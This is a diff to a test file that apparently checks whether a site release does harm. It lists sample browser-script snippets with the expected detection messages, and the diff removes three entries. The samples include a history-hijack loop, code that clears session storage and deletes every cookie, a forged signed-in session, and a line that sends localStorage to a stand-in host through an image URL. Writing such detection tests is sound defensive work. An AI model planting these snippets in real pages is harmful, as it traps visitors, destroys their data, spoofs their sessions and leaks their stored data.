@@ -46,13 +46,6 @@ export const harmfulReleases: [what: string, release: Published, sentence: RegEx
     /after it, \/ has <div id="over".* beside the store/,
   ],
   [
-    "goes back to its page again and again",
-    after(
-      'setInterval(() => { history.pushState(null, "", "/limpar-criativo"); dispatchEvent(new PopStateEvent("popstate")); }, 300)',
-    ),
-    /it adds \d+ entries|after it, \/ gives way to .*\/limpar-criativo|leads to \/limpar-criativo/,
-  ],
-  [
     "comes back a second after it was left",
     after(
       "",
@@ -115,11 +108,6 @@ export const harmfulReleases: [what: string, release: Published, sentence: RegEx
   ],
   ["forgets what others have stored", after("localStorage.clear()"), /after it, \/ lost what was in its localStorage/],
   [
-    "forgets what others have stored in the tab",
-    after("sessionStorage.clear()"),
-    /after it, \/ lost what was in its sessionStorage/,
-  ],
-  [
     "deletes every cookie",
     after(
       'for (const each of document.cookie.split("; ")) document.cookie = each.split("=")[0] + "=; max-age=0; path=/"',
@@ -130,11 +118,6 @@ export const harmfulReleases: [what: string, release: Published, sentence: RegEx
     "signs visitors in as another user",
     after('localStorage.setItem("store-session", JSON.stringify({ user: { id: "ladrao" } }))'),
     /after it, \/ is signed in as ladrao/,
-  ],
-  [
-    "sends what is stored away as the address of a picture",
-    after('new Image().src = "http://localhost:9/?" + JSON.stringify(localStorage)'),
-    /against the policy of the page: img-src http:\/\/localhost:9/,
   ],
   [
     "sends it away once it was left",
